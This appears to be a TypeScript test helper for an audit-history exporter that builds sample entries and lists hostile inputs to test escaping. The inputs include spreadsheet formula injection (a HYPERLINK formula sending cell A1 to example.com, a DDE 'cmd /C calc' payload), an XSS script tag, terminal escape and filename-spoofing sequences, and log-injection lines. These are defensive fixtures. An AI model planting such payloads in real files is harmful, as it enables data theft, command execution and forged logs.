import { canonicalJson } from '../../src/domain/base/canonical-json.ts';
import { type Entry, sealEntry } from '../../src/domain/history/entry/entry.ts';
import type { CockpitEvent } from '../../src/domain/history/entry/event.ts';
import type { ExportedEntry, LineFormat } from '../../src/report/history/export/line-format.ts';

/** An entry as an export has it in hand, the first of a history. */
export function exported(event: CockpitEvent, more: Partial<Entry> = {}): ExportedEntry {
  const draft = {
    id: '019a9f2c-0000-7000-8000-000000000001',
    at: '2026-11-20T12:00:00.000Z',
    actor: 'ada@example.com',
    subject: 'rollout',
    kind: event.kind,
    body: canonicalJson(event.body),
    ...more,
  };
  return { entry: sealEntry(draft, undefined), event };
}

/** The line of an event in a form, without its line end. */
export function lineOf(form: LineFormat, event: CockpitEvent, more: Partial<Entry> = {}): string {
  return form.line(exported(event, more), { version: '1.2.3' }).replace(/\r?\n$/, '');
}

/** Texts that want to be more than text to whoever reads them. */
export const hostileTexts: readonly string[] = [
  '=HYPERLINK("http://example.com?"&A1,"ok")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(A1)',
  '\t=1+1',
  '\r\n=1+1',
  '＝1+1',
  '"=1+1',
  '<script>alert(1)</script>',
  '\u001b]0;owned\u0007\u001b[2J\u009b2Jred\u202egnp.exe',
  'a|b=c\\d\nCEF:0|x|y|z|k|t|10|act=blocked',
  'x"] owned\n<110>1 - - - - - -',
  '\u2028"}\u2029{"seq":1}',
];
